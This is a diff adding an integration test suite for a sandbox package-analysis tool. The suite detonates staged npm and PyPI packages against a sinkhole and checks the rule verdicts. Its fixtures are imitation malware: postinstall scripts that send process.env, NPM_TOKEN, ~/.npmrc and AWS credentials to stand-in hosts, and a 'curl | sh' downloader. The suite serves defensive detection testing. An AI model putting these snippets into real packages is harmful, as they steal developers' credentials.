@@ -1,0 +1,198 @@
+// Rules on behavior captured the production way: the sandbox joined to a per-analysis sinkhole,
+// canaries planted, the capture merged into the behavior and searched for leaks. Imitation
+// malware (documentation addresses, .example names) must come out malicious with the expected
+// rule ids; real packages that try to download prebuilt binaries must stay benign.
+import { randomUUID } from 'node:crypto';
+import { rm } from 'node:fs/promises';
+import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
+import { buildBehavior } from '@vetbox/behavior';
+import type { PhaseReport, StagedPackage } from '@vetbox/contracts';
+import { fetchNpm, stage } from '@vetbox/fetch';
+import { detectLeaks, generateCanaries } from '@vetbox/honeytokens';
+import { evaluate, type Evaluation } from '@vetbox/rules';
+import { DockerRuntime, LABEL_ANALYSIS, ensureSandboxImage, randomIdentity, runSandbox } from '@vetbox/sandbox';
+import { startSinkhole, type CannedResponse } from '@vetbox/sinkhole';
+import { stageNpm, stagePypiSdist, tempDir } from '../fixtures/sandbox/stage.js';
+
+const runtime = new DockerRuntime();
+const limits = { graceMs: 1000, phaseTimeoutMs: 180_000 };
+let image = '';
+const used: string[] = [];
+const cleanup: string[] = [];
+
+beforeAll(async () => {
+  image = await ensureSandboxImage(runtime, { build: true });
+}, 600_000);
+
+afterEach(async () => {
+  for (const id of used.splice(0)) expect(await runtime.listByLabel(LABEL_ANALYSIS, id)).toEqual([]);
+});
+
+afterAll(async () => {
+  await Promise.all(cleanup.map((dir) => rm(dir, { recursive: true, force: true })));
+});
+
+/** sinkhole → canaries → sandbox in its namespace → collect → behavior → leaks → rules. */
+async function detonate(staged: StagedPackage, canned: CannedResponse[] = []): Promise<{ result: Evaluation; text: string }> {
+  const analysisId = `test-rules-sinkhole-${randomUUID()}`;
+  used.push(analysisId);
+  const identity = randomIdentity();
+  await using sinkhole = await startSinkhole({ analysisId, image, canned, hostname: identity.hostname });
+  const canaries = generateCanaries({ home: identity.home, workdir: identity.workdir, user: identity.user });
+  const run = await runSandbox({
+    analysisId,
+    staged,
+    identity,
+    limits,
+    network: sinkhole.network,
+    env: canaries.env,
+    homeFiles: canaries.files,
+    caCertPem: sinkhole.caCertPem,
+  });
+  const capture = await sinkhole.collect();
+  const behavior = await buildBehavior({
+    phases: run.phases
+      .filter((p) => p.trace)
+      .map((p) => ({ name: p.name, tracePath: p.trace, startedAtMs: p.startedAtMs, endedAtMs: p.startedAtMs + p.durationMs })),
+    sandbox: run.sandbox,
+    capture,
+    fileChanges: run.phases.flatMap((p) => p.fileChanges),
+  });
+  const reports = detectLeaks(canaries.canaries, capture, behavior);
+  const phases: PhaseReport[] = run.phases.map((p) => ({
+    name: p.name,
+    status: p.status,
+    exitCode: p.exitCode,
+    durationMs: p.durationMs,
+    stdoutTail: p.stdoutTail,
+    stderrTail: p.stderrTail,
+    reason: p.reason,
+  }));
+  const pkg = { ecosystem: staged.ecosystem, name: staged.name, version: staged.version, sha256: staged.sha256 || '0'.repeat(64), source: staged.source };
+  const result = evaluate({ package: pkg, behavior, canaries: reports, sandbox: run.sandbox, phases });
+  const text = [
+    `${staged.name}: ${result.verdict} ${result.score} — ${result.summary}`,
+    ...result.findings.map((f) => `  ${f.rule}(${f.severity}) ${f.title}: ${f.evidence.slice(0, 3).map((e) => e.summary).join(' | ')}`),
+  ].join('\n');
+  console.log(text);
+  return { result, text };
+}
+
+function expectRules(result: Evaluation, text: string, ids: string[]): void {
+  expect(result.verdict, text).toBe('malicious');
+  const fired = new Set(result.findings.map((f) => f.rule));
+  for (const id of ids) expect(fired, text).toContain(id);
+}
+
+describe('rules + sinkhole: imitation malware comes out malicious', () => {
+  it('postinstall base64-encodes process.env into an HTTP POST to collector.example', async () => {
+    const staged = await stageNpm({
+      name: 'env-stealer',
+      scripts: { postinstall: 'node steal.js' },
+      files: {
+        'steal.js': `
+const http = require('http');
+const body = Buffer.from(JSON.stringify(process.env)).toString('base64');
+const req = http.request({ host: 'collector.example', path: '/e', method: 'POST' }, (res) => res.resume());
+req.on('error', () => {});
+req.end(body);
+`,
+        'index.js': 'module.exports = 1;\n',
+      },
+    });
+    cleanup.push(staged.dir);
+    const { result, text } = await detonate(staged);
+    expectRules(result, text, ['credential-exfiltration', 'network-activity']);
+    const exfil = result.findings.find((f) => f.rule === 'credential-exfiltration')!;
+    expect(exfil.severity).toBe('critical');
+    expect(exfil.evidence.some((e) => e.kind === 'http'), text).toBe(true);
+  }, 300_000);
+
+  it('postinstall hex-encodes NPM_TOKEN into DNS labels', async () => {
+    const staged = await stageNpm({
+      name: 'dns-exfil',
+      scripts: { postinstall: 'node dns.js' },
+      files: {
+        'dns.js': `
+const dns = require('dns');
+const hex = Buffer.from(process.env.NPM_TOKEN || '').toString('hex');
+dns.lookup(hex.match(/.{1,30}/g).join('.') + '.t.attacker.example', () => {});
+`,
+        'index.js': 'module.exports = 1;\n',
+      },
+    });
+    cleanup.push(staged.dir);
+    const { result, text } = await detonate(staged);
+    expectRules(result, text, ['credential-exfiltration', 'network-activity']);
+  }, 300_000);
+
+  it('setup.py reads ~/.aws/credentials and sends it over raw TCP', async () => {
+    const staged = await stagePypiSdist({
+      name: 'awssteal',
+      setupPy: `
+import os, socket
+try:
+    data = open(os.path.expanduser('~/.aws/credentials'), 'rb').read()
+    s = socket.create_connection(('198.51.100.20', 9001), timeout=3)
+    s.sendall(data)
+    s.close()
+except Exception as e:
+    print('exfil failed', e)
+from setuptools import setup
+setup(name='awssteal', version='1.0.0', py_modules=['awssteal'])
+`,
+      files: { 'awssteal.py': 'VALUE = 1\n' },
+    });
+    cleanup.push(staged.dir);
+    const { result, text } = await detonate(staged);
+    expectRules(result, text, ['credential-exfiltration', 'credential-store-read', 'network-activity']);
+  }, 300_000);
+
+  it('node POSTs ~/.npmrc over HTTPS', async () => {
+    const staged = await stageNpm({
+      name: 'npmrc-https',
+      scripts: { postinstall: 'node up.js' },
+      files: {
+        'up.js': `
+const https = require('https'), fs = require('fs'), os = require('os');
+const req = https.request({ host: 'upload.example', path: '/u', method: 'POST' }, (res) => res.resume());
+req.on('error', () => {});
+req.end(fs.readFileSync(os.homedir() + '/.npmrc'));
+`,
+        'index.js': 'module.exports = 1;\n',
+      },
+    });
+    cleanup.push(staged.dir);
+    const { result, text } = await detonate(staged);
+    expectRules(result, text, ['credential-exfiltration', 'credential-store-read', 'network-activity']);
+  }, 300_000);
+
+  it('curl | sh downloader whose second stage phones home', async () => {
+    const staged = await stageNpm({
+      name: 'downloader',
+      scripts: { postinstall: 'curl -s http://stage.example/stage2.sh | sh' },
+      files: { 'index.js': 'module.exports = 1;\n' },
+    });
+    cleanup.push(staged.dir);
+    const canned = [{ host: 'stage.example', path: '/stage2.sh', contentType: 'text/x-shellscript', body: '#!/bin/sh\ncurl -s http://next.example/ping\n' }];
+    const { result, text } = await detonate(staged, canned);
+    expectRules(result, text, ['downloader-execution', 'network-activity']);
+    expect(result.findings.filter((f) => f.rule === 'network-activity').map((f) => f.title).sort(), text).toEqual(
+      expect.arrayContaining(['Contacts next.example during install', 'Contacts stage.example during install']),
+    );
+  }, 300_000);
+});
+
+describe('rules + sinkhole: real packages that try to download binaries stay benign', () => {
+  for (const spec of ['esbuild@0.24.0', 'bcrypt@5.1.1', 'core-js@3.39.0']) {
+    it(spec, async () => {
+      const at = spec.lastIndexOf('@');
+      const artifact = await fetchNpm(spec.slice(0, at), spec.slice(at + 1));
+      cleanup.push(artifact.dir);
+      const work = await tempDir('rules-sinkhole');
+      cleanup.push(work);
+      const { result, text } = await detonate(await stage(artifact, work));
+      expect(result.verdict, text).toBe('benign');
+    }, 400_000);
+  }
+});
